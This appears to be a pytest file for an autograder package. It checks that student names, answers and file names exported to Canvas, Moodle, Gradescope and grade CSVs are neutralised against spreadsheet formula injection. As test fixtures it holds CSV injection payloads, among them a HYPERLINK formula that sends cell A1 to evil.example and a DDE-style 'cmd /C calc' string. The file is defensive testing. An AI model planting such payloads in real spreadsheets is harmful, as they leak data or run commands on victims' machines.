"""CSV formula injection: every CSV the package writes neutralises cells a spreadsheet would run,
through the one helper (autograder.csvsafe), and the package reads its own files back unchanged."""

from __future__ import annotations

import ast
import copy
import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from lms_scenarios import BOB, CLASS, HW, JANE, JOSE, SEAN, canvas_roster
from lms_support import FIXTURES, write_final_grades, write_zip

import autograder
from autograder import csvsafe
from autograder.cli import main
from autograder.lms.names import display_name

PACKAGE = Path(autograder.__file__).parent
HELPER = PACKAGE / "csvsafe.py"
WRITERS = {"writer", "DictWriter"}

HOSTILE_NAMES = {JANE: '=HYPERLINK("http://evil.example/?"&A1,"click")',
                 BOB: "@SUM(1+1)*cmd|' /C calc'!A0", SEAN: "+1-1", JOSE: "-2+3"}
HOSTILE_ANSWER = '=HYPERLINK("http://evil.example/","see my answer")'
HOSTILE_COMMENT = "-see rubric"


def _csv_calls(tree: ast.AST) -> list[int]:
    """Line numbers of csv.writer / csv.DictWriter calls, however csv was imported."""
    module_aliases, function_aliases = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            module_aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            function_aliases |= {a.asname or a.name for a in node.names if a.name in WRITERS}
    lines = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        f = node.func
        if (isinstance(f, ast.Attribute) and f.attr in WRITERS and isinstance(f.value, ast.Name)
                and f.value.id in module_aliases) or (isinstance(f, ast.Name)
                                                      and f.id in function_aliases):
            lines.append(node.lineno)
    return lines


def test_every_csv_writer_goes_through_the_helper():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == HELPER:
            continue
        for line in _csv_calls(ast.parse(path.read_text("utf-8"))):
            offenders.append(f"{path.relative_to(PACKAGE.parent)}:{line}")
    assert offenders == [], "CSV writers bypassing autograder.csvsafe: " + ", ".join(offenders)


def test_the_scan_finds_bypasses():
    code = "import csv\nimport csv as c\nfrom csv import DictWriter as D\n" \
           "csv.writer(f)\nc.DictWriter(f, [])\nD(f, [])\n"
    assert _csv_calls(ast.parse(code)) == [4, 5, 6]


def _is_safe(cell: str) -> bool:
    if set(cell) == {"-"}:
        return True  # Otter's '--': references and calls nothing
    if cell[:1] in csvsafe.FORMULA_TRIGGERS or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@"):
        try:
            float(cell.strip())
        except ValueError:
            return False
    return True


def _cells(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _answered_notebook() -> bytes:
    nb = copy.deepcopy(json.loads((FIXTURES / "manual_student.ipynb").read_text("utf-8")))
    answers = [c for c in nb["cells"] if "otter_answer_cell" in c["metadata"].get("tags", [])]
    answers[1]["source"] = HOSTILE_ANSWER
    return json.dumps(nb).encode()


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture
def hostile_course(tmp_path):
    roster = canvas_roster(tmp_path, CLASS, names=HOSTILE_NAMES)
    z = write_zip(tmp_path / "s.zip", [
        (f"x_{p.canvas_id}_{5000 + i}_hw2.ipynb", _answered_notebook())
        for i, p in enumerate((JANE, BOB, SEAN, JOSE))])
    out = tmp_path / "out"
    r = invoke("collect", "--lms", "canvas", "--roster", roster, "--out", out, z)
    assert r.exit_code == 0, r.output
    coll = json.loads((out / "collection.json").read_text("utf-8"))
    assert {e["student"]["name"] for e in coll["entries"]} == set(HOSTILE_NAMES.values())
    write_final_grades(out, {"q1": 2, "q4": 3}, {e["file"]: {"q1": 1, "q4": -0.0}
                                                 for e in coll["entries"]})
    return tmp_path, out, roster


def test_hostile_names_and_answers_round_trip(hostile_course):
    tmp, out, roster = hostile_course
    sheets = tmp / "sheets"
    r = invoke("manual", "export", "--master", FIXTURES / "manual_master.ipynb", "--grades", out,
               "--out", sheets)
    assert r.exit_code == 0, r.output
    written = sorted(sheets.glob("*.csv"))
    for sheet in written:
        rows = _cells(sheet)
        assert all(_is_safe(c) for row in rows for c in row), sheet
        q2 = [csvsafe.restore_row(row) for row in rows]
        header = q2[0]
        if sheet.name == "manual_q2.csv":
            answers = {row[header.index("answer")] for row in q2[1:]}
            assert answers == {HOSTILE_ANSWER}
        # the TA fills in points and a comment starting with '-' (a spreadsheet would run it)
        with sheet.open("w", encoding="utf-8-sig", newline="") as f:
            w = csvsafe.writer(f)
            w.writerow(header)
            for row in q2[1:]:
                row[header.index("points")] = "1"
                row[header.index("comment")] = HOSTILE_COMMENT
                w.writerow(row)
    r = invoke("manual", "import", "--grades", out, *written)
    assert r.exit_code == 0, r.output
    common = ["--grades", out, "--roster", roster]
    outputs = {
        "canvas.csv": ["canvas", "--assignment-name", "HW 1", "--assignment-id", HW.id],
        "moodle.csv": ["moodle", "--assignment-name", "HW 1", "--identifier", "email"],
        "gradescope.csv": ["gradescope"],
        "final.csv": ["csv"],
    }
    for name, args in outputs.items():
        r = invoke("export", args[0], *common, *args[1:], "--out", tmp / name,
                   "--report", tmp / f"report-{name}")
        assert r.exit_code == 0, (name, r.output)
        for path in (tmp / name, tmp / f"report-{name}"):
            rows = _cells(path)
            assert all(_is_safe(c) for row in rows for c in row), (path.name, rows)
    report = [csvsafe.restore_row(r) for r in _cells(tmp / "report-canvas.csv")]
    names = {row[report[0].index("student")] for row in report[1:]}
    # read back unchanged (the report shows Canvas's "Last, First" as "First Last")
    assert {display_name(HOSTILE_NAMES[p]) for p in (JANE, BOB, SEAN, JOSE)} <= names


def test_grader_final_grades_neutralises_file_names_and_export_reads_them_back(tmp_path):
    """The grader's own CSV: a submission file named like a formula is quoted in
    final_grades.csv and read back by 'export' as the same name."""
    from types import SimpleNamespace

    from autograder.grading.batch.outputs import write_outputs
    from autograder.lms.grades import read_final_grades

    hostile = ["=1+1.ipynb", "@SUM(A1).ipynb", "-x.ipynb", "plain.ipynb"]
    spec = SimpleNamespace(questions=[SimpleNamespace(name="q1")], points_possible={"q1": 2.0},
                           total_possible=2.0, sha256="ag")
    results = {name: {"id": i, "total": -0.0 if i == 0 else 1.0, "percent": 0.5,
                      "grading_status": "Completed", "results_json": "{}"}
               for i, name in enumerate(hostile)}
    gradebook = SimpleNamespace(
        result_attempt=lambda path, sha, ag: results[Path(path).name],
        questions_of=lambda attempt_id: [{"name": "q1", "score": 1.0}])
    batch = [(str(tmp_path / "subs" / n), "sha", f"s{i}") for i, n in enumerate(hostile)]
    assert write_outputs(tmp_path, gradebook, spec, batch) == len(hostile)
    rows = _cells(tmp_path / "final_grades.csv")
    assert all(_is_safe(c) for row in rows for c in row)
    assert sorted(r[0] for r in rows[2:]) == sorted(csvsafe.neutralise(n) for n in hostile)
    assert sorted(read_final_grades(tmp_path).rows) == sorted(hostile)
